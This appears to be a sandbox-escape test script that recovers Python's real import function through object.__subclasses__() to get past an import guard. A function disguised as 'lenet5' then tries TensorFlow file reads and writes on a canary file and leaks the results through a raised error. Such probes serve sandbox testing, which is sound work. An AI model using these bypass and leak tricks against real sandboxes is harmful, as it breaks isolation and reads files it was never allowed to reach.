#!/usr/bin/env python3
"""Lambda layers and tf operations that read a file outside and write another."""
from tensorflow import keras as K

# Around the guard of imports, to the wall behind it.
PLAIN = next(kind for kind in object.__subclasses__() if kind.__name__ == "catch_warnings").__init__.__globals__["__builtins__"]
__builtins__["__import__"] = (PLAIN if isinstance(PLAIN, dict) else vars(PLAIN))["__import__"]
import tensorflow as tf

SOURCE, TARGET = "@CANARY_FILE@", "@TARGET@/written"
LOOT = []


def lenet5(X):
    """Read by every operation that TensorFlow has."""
    for function in (lambda: tf.io.read_file(SOURCE), lambda: tf.io.gfile.GFile(SOURCE).read(), lambda: next(iter(tf.data.TextLineDataset(SOURCE))),
                     lambda: tf.io.matching_files("@TARGET@/../*"), lambda: tf.io.write_file(TARGET, "written"), lambda: tf.io.gfile.mkdir(TARGET + "-folder"),
                     lambda: tf.raw_ops.Save(filename=TARGET, tensor_names=["x"], data=[1.0]), lambda: tf.summary.create_file_writer("@TARGET@")):
        try:
            LOOT.append(str(function()))
        except Exception as error:
            LOOT.append(type(error).__name__)
    raise ValueError(str(LOOT))
